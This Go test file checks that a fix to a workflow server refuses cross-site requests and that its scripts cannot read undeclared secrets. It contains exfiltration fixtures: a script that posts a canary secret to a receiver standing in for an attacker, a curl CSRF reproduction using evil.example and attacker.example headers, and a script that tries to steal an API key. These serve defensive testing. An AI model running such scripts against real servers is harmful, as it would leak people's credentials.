package main

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/starflow/starflow/internal/runtest"
	"github.com/starflow/starflow/journal"
	"github.com/starflow/starflow/journal/badgerstore"
	"github.com/starflow/starflow/server"
)

// serveProcess is `starflow serve` as a real child process (this test
// binary, re-executed) with its log.
type serveProcess struct {
	cmd    *exec.Cmd
	client *server.Client
	addr   string
	dir    string // its working directory: its script directory
	db     string
	log    *runtest.LogBuffer
}

// startServeProcess runs `starflow serve --addr 127.0.0.1:0` over a new
// store with extra environment and flags, and waits for its address.
func startServeProcess(t *testing.T, env []string, args ...string) *serveProcess {
	t.Helper()
	db := filepath.Join(t.TempDir(), "db")
	p := &serveProcess{log: &runtest.LogBuffer{}, db: db}
	p.cmd = exec.Command(os.Args[0], append([]string{"serve", "--addr", "127.0.0.1:0", "--db", db, "--log-format", "json", "--log-level", "warn"}, args...)...)
	p.cmd.Env = append(append(os.Environ(), "STARFLOW_TEST_MAIN=1"), env...)
	p.dir = t.TempDir()
	p.cmd.Dir = p.dir
	p.cmd.Stderr = p.log
	if err := p.cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { p.cmd.Process.Kill(); p.cmd.Wait() })
	deadline := time.Now().Add(30 * time.Second)
	for time.Now().Before(deadline) {
		if o, err := badgerstore.ReadOwner(db); err == nil && o.PID == p.cmd.Process.Pid && o.Addr != "" {
			p.addr = o.Addr
			p.client = server.NewClient(o.Addr, "")
			return p
		}
		time.Sleep(20 * time.Millisecond)
	}
	t.Fatalf("serve did not start: %s", p.log.String())
	return nil
}

// receiver is an attacker's server on loopback: it records what it is sent.
type receiver struct {
	*httptest.Server
	mu     sync.Mutex
	bodies []string
}

func newReceiver(t *testing.T) *receiver {
	r := &receiver{}
	r.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		b, _ := io.ReadAll(req.Body)
		r.mu.Lock()
		r.bodies = append(r.bodies, req.Header.Get("Authorization")+" "+string(b))
		r.mu.Unlock()
		w.Header().Set("Content-Type", "application/json")
		io.WriteString(w, `{"id": "x", "object": "chat.completion", "model": "m", "choices": [{"index": 0, "message": {"role": "assistant", "content": "hi"}, "finish_reason": "stop"}], "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2}}`)
	}))
	t.Cleanup(r.Close)
	return r
}

func (r *receiver) got() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]string(nil), r.bodies...)
}

// exfil is the script of the reproduction: it posts a secret anywhere.
func exfil(url string) string {
	return "def main(input):\n    http.post(\"" + url + "/exfil\", json={\"stolen\": secret(\"CANARY\")})\n    return \"done\"\n"
}

// rawPost sends a POST with exactly these headers ("Host" sets the Host
// header; the connection goes to addr).
func rawPost(t *testing.T, addr, path, body string, hdr ...string) (int, string) {
	t.Helper()
	req, err := http.NewRequest("POST", "http://"+addr+path, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i+1 < len(hdr); i += 2 {
		if hdr[i] == "Host" {
			req.Host = hdr[i+1]
		} else {
			req.Header.Set(hdr[i], hdr[i+1])
		}
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

// The reproduction of issue 10 with curl, as a test against a real
// `starflow serve` on loopback with no token:
//
//	CANARY=canary-XYZ starflow serve --addr 127.0.0.1:PORT
//	curl -X POST -H 'Content-Type:' -H 'Origin: https://evil.example' \
//	    -H 'Host: attacker.example:PORT' --data-binary '{"id":"csrf1","source":...}' \
//	    http://127.0.0.1:PORT/v1/runs
//
// used to answer 201 and post the canary to the receiver. Now it, and each
// of its parts alone, is refused; no run is created and the receiver
// hears nothing.
func TestCSRFReproductionIsRefused(t *testing.T) {
	if testing.Short() {
		t.Skip("starts a real server")
	}
	rcv := newReceiver(t)
	srv := startServeProcess(t, []string{"CANARY=canary-XYZ"})
	_, port, _ := net.SplitHostPort(srv.addr)
	body, _ := json.Marshal(map[string]string{"id": "csrf1", "source": exfil(rcv.URL)})

	status, resp := rawPost(t, srv.addr, "/v1/runs", string(body), "Origin", "https://evil.example", "Host", "attacker.example:"+port)
	if status != http.StatusMisdirectedRequest || !strings.Contains(resp, `"code":"misdirected_host"`) || !strings.Contains(resp, "--allow-host") {
		t.Errorf("the curl reproduction: %d %s", status, resp)
	}
	for _, c := range []struct {
		hdr    []string
		status int
		code   string
	}{
		{[]string{"Host", "attacker.example:" + port, "Content-Type", "application/json"}, 421, "misdirected_host"},
		{[]string{"Origin", "https://evil.example", "Content-Type", "application/json"}, 403, "forbidden_origin"},
		{[]string{"Origin", "http://127.0.0.1:1", "Content-Type", "application/json"}, 403, "forbidden_origin"},
		{nil, 415, "unsupported_media_type"},
		{[]string{"Content-Type", "text/plain"}, 415, "unsupported_media_type"},
		// A well-formed request: the code in it is refused by default.
		{[]string{"Content-Type", "application/json"}, 403, "inline_source_disabled"},
	} {
		status, resp := rawPost(t, srv.addr, "/v1/runs", string(body), c.hdr...)
		if status != c.status || !strings.Contains(resp, `"code":"`+c.code+`"`) {
			t.Errorf("%v: %d %s; want %d %s", c.hdr, status, resp, c.status, c.code)
		}
	}
	runs, err := srv.client.List(context.Background(), nil, 0)
	if err != nil || len(runs) != 0 {
		t.Fatalf("runs after the attack: %v %v", runs, err)
	}
	if got := rcv.got(); len(got) != 0 {
		t.Fatalf("the receiver got %q", got)
	}
	if !strings.Contains(srv.log.String(), "refused request") {
		t.Errorf("refusals not logged: %s", srv.log.String())
	}
}

// With code allowed in requests, a script can still read only declared
// secrets: the exfiltration fails before any request is sent, and the
// error names the secret and the flag, never the value. Declared, the
// secret works (the legitimate path).
func TestServeScriptsReadOnlyDeclaredSecrets(t *testing.T) {
	if testing.Short() {
		t.Skip("starts a real server")
	}
	ctx := context.Background()
	rcv := newReceiver(t)
	srv := startServeProcess(t, []string{"CANARY=canary-XYZ", "OTHER=other-value"}, "--allow-inline-source", "--secret", "OTHER")
	r, err := srv.client.Start(ctx, server.StartRequest{ID: "x1", Source: exfil(rcv.URL), Wait: "1m"})
	if err != nil {
		t.Fatal(err)
	}
	if r.Status != journal.StatusFailed || r.Error.Kind != "secret" || !strings.Contains(r.Error.Message, "secret CANARY: not declared") || !strings.Contains(r.Error.Message, "--secret CANARY") {
		t.Fatalf("undeclared secret: %s %+v", r.Status, r.Error)
	}
	if got := rcv.got(); len(got) != 0 {
		t.Fatalf("the receiver got %q", got)
	}
	h, err := srv.client.History(ctx, "x1")
	if err != nil {
		t.Fatal(err)
	}
	if b, _ := json.Marshal(h); bytes.Contains(b, []byte("canary-XYZ")) || bytes.Contains(b, []byte("other-value")) {
		t.Fatalf("a secret's value in the history: %s", b)
	}

	srv2 := startServeProcess(t, []string{"CANARY=canary-XYZ"}, "--allow-inline-source", "--secret", "CANARY")
	r, err = srv2.client.Start(ctx, server.StartRequest{ID: "x2", Source: exfil(rcv.URL), Wait: "1m"})
	if err != nil || r.Status != journal.StatusCompleted {
		t.Fatalf("declared secret: %+v %v", r, err)
	}
	if got := rcv.got(); len(got) != 1 || !strings.Contains(got[0], "canary-XYZ") {
		t.Fatalf("the receiver got %q", got)
	}
}

// Provider credentials the llm configuration names keep working without a
// declaration: env(NAME) keys are read by the llm module itself (and stay
// out of scripts' reach), secret(NAME) keys are declared by the
// configuration.
func TestLLMProviderKeysNeedNoDeclaration(t *testing.T) {
	rcv := newReceiver(t)
	dir := t.TempDir()
	env := map[string]string{"STARFLOW_DB": filepath.Join(dir, "db"), "LLM_ENV_KEY": "env-key-1", "LLM_SECRET_KEY": "secret-key-2"}
	cfg := func(key string) string {
		p := filepath.Join(dir, strings.NewReplacer("(", "_", ")", "").Replace(key)+".yaml")
		os.WriteFile(p, []byte("version: 1\nproviders:\n  local:\n    type: openai_compatible\n    base_url: "+rcv.URL+"/v1\n    api_key: "+key+"\nmodels:\n  default:\n    retry: {max_attempts: 1}\n    deployments: [{provider: local, model: m}]\n"), 0o644)
		return p
	}
	script := filepath.Join(dir, "ask.star")
	os.WriteFile(script, []byte("def main(input):\n    return llm('hello').text\n"), 0o644)
	steal := filepath.Join(dir, "steal.star")
	os.WriteFile(steal, []byte("def main(input):\n    return attempt(http.get, '"+rcv.URL+"/steal', headers = {'X': secret('LLM_ENV_KEY')}).kind\n"), 0o644)
	run := func(args ...string) (int, string, string) {
		var stdout, stderr bytes.Buffer
		m := &Main{Stdin: strings.NewReader(""), Stdout: &stdout, Stderr: &stderr, Getenv: func(k string) string { return env[k] }}
		code := m.Run(context.Background(), args)
		return code, stdout.String(), stderr.String()
	}
	for i, key := range []string{"env(LLM_ENV_KEY)", "secret(LLM_SECRET_KEY)"} {
		code, stdout, stderr := run("run", script, "--llm-config", cfg(key), "--id", "k"+string(rune('0'+i)))
		if code != ExitOK || strings.TrimSpace(stdout) != `"hi"` {
			t.Fatalf("api_key %s: exit %d %s %s", key, code, stdout, stderr)
		}
	}
	got := rcv.got()
	if len(got) != 2 || !strings.HasPrefix(got[0], "Bearer env-key-1 ") || !strings.HasPrefix(got[1], "Bearer secret-key-2 ") {
		t.Fatalf("the provider got %q", got)
	}
	// The env(NAME) key is the llm module's, not a script's.
	code, stdout, stderr := run("run", steal, "--llm-config", cfg("env(LLM_ENV_KEY)"), "--id", "s")
	if code != ExitOK || strings.TrimSpace(stdout) != `"secret"` || len(rcv.got()) != 2 {
		t.Fatalf("a script reading the llm's env key: exit %d %s %s", code, stdout, stderr)
	}
}

// starflow run, while a server that runs no code from requests owns the
// store, names the script file instead of sending it: a script in the
// server's directory runs there; one outside it is refused with what to do.
func TestCLIRunThroughServerWithoutInlineCode(t *testing.T) {
	if testing.Short() {
		t.Skip("starts a real server")
	}
	srv := startServeProcess(t, nil)
	inside := filepath.Join(srv.dir, "in.star")
	os.WriteFile(inside, []byte("def main(input):\n    return input * 2\n"), 0o644)
	outside := filepath.Join(t.TempDir(), "out.star")
	os.WriteFile(outside, []byte("def main(input):\n    return 1\n"), 0o644)
	code, stdout, stderr := runWith(t, t.TempDir(), nil, nil, "run", inside, "--db", srv.db, "--input", "21")
	if code != ExitOK || strings.TrimSpace(stdout) != "42" || !strings.Contains(stderr, "is executing in the server") {
		t.Fatalf("script in the server's directory: exit %d, %s %s", code, stdout, stderr)
	}
	code, _, stderr = runWith(t, t.TempDir(), nil, nil, "run", outside, "--db", srv.db)
	if code != ExitUsage || !strings.Contains(stderr, "runs only scripts in its script directory (starflow serve --scripts)") || !strings.Contains(stderr, "--allow-inline-source") {
		t.Fatalf("script elsewhere: exit %d, %s", code, stderr)
	}
}
